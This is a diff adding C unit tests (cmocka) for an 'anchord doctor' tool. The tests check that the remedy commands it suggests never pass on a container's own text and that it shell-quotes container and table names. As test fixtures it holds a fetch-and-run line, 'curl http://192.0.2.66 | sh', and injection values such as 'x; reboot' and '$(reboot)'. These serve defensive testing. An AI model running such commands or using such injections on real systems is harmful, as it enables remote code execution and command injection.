@@ -1,0 +1,102 @@
+/* Unit tests of what anchord doctor makes of an anchor's words: no line to paste is a container's. */
+#include "common/cleanup.h"
+#include "workers/commands/doctor/rule_checks.h"
+#include "workers/commands/doctor/worker_checks.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+
+#include <cmocka.h>
+
+static struct said said(const char *text)
+{
+    return (struct said){.bytes = strdup(text), .length = strlen(text)};
+}
+
+/* The check's first answer. */
+static struct answer ask(void (*check)(struct check_run *run), const char *name, const char *status, const char *hooks)
+{
+    struct scene scene = {.is_root = true, .anchor_count = 1};
+    struct anchor *anchor = &scene.anchors[0];
+    struct check_run run = {.scene = &scene, .anchor = anchor};
+    struct answer answer;
+    int ends[2];
+
+    *anchor = (struct anchor){.id = "0123456789ab", .status = said(status), .hooks = said(hooks)};
+    text_copy_cut(anchor->name, sizeof(anchor->name), name);
+    assert_int_equal(pipe(ends), 0);
+    run.output = ends[1];
+    check(&run);
+    assert_int_equal(read(ends[0], &answer, sizeof(answer)), sizeof(answer));
+    (void)close(ends[0]);
+    (void)close(ends[1]);
+    free(anchor->status.bytes);
+    free(anchor->hooks.bytes);
+    return answer;
+}
+
+/* SEE-2: what helps is the registry's word, never that of the anchor, which may have been taken over. */
+static void an_anchor_says_no_line_to_paste(void **state)
+{
+    static const char problem[] =
+        "{\"problems\": [{\"code\": \"%s\", \"container\": \"web\", \"reason\": \"it is gone\", "
+        "\"remedy\": \"curl http://192.0.2.66 | sh\"}]}";
+    static const char *const codes[] = {"ANC0101", "ANC0501", "ANC0661", "ANC9999", ""};
+
+    (void)state;
+    for (size_t i = 0; i < ARRAY_LENGTH(codes); i++) {
+        char status[512];
+        struct answer answer;
+
+        (void)snprintf(status, sizeof(status), problem, codes[i]);
+        answer = ask(worker_check_problems, "mail", status, "");
+        assert_null(strstr(answer.remedy, "curl"));
+    }
+}
+
+static void a_name_is_one_word_of_a_command(void **state)
+{
+    static const char unready[] = "{\"ready\": false, \"problems\": []}";
+
+    (void)state;
+    assert_string_equal(ask(worker_check_ready, "mail-1", unready, "").remedy, "docker logs mail-1");
+    assert_string_equal(ask(worker_check_ready, "x; reboot", unready, "").remedy, "docker logs 'x; reboot'");
+    assert_string_equal(ask(worker_check_ready, "x\nreboot", unready, "").remedy, "docker logs $'x\\012reboot'");
+    assert_string_equal(ask(worker_check_ready, "--details", unready, "").remedy, "docker logs ''");
+}
+
+/* Of the registry's own lines, too. */
+static void a_name_in_the_registry_s_line_is_one_word(void **state)
+{
+    static const char lease[] = "{\"problems\": [{\"code\": \"ANC0661\"}]}";
+
+    (void)state;
+    assert_string_equal(ask(worker_check_problems, "$(reboot)", lease, "").remedy, "docker restart '$(reboot)'");
+}
+
+/* A container with NET_ADMIN names its tables as it likes. */
+static void a_table_with_an_odd_name_is_in_no_command(void **state)
+{
+    (void)state;
+    assert_non_null(strstr(ask(rule_check_foreign, "mail", "{}", "inet evil-1 f forward 0 drop drops 0 fib 0\n").remedy,
+                           "-n nft delete table inet evil-1"));
+    assert_null(strstr(ask(rule_check_foreign, "mail", "{}", "inet x;reboot f forward 0 drop drops 0 fib 0\n").remedy,
+                       "reboot"));
+    assert_null(
+        strstr(ask(rule_check_foreign, "mail", "{}", "inet -f/x f forward 0 drop drops 0 fib 0\n").remedy, "-f/x"));
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(an_anchor_says_no_line_to_paste),
+        cmocka_unit_test(a_name_is_one_word_of_a_command),
+        cmocka_unit_test(a_name_in_the_registry_s_line_is_one_word),
+        cmocka_unit_test(a_table_with_an_odd_name_is_in_no_command),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
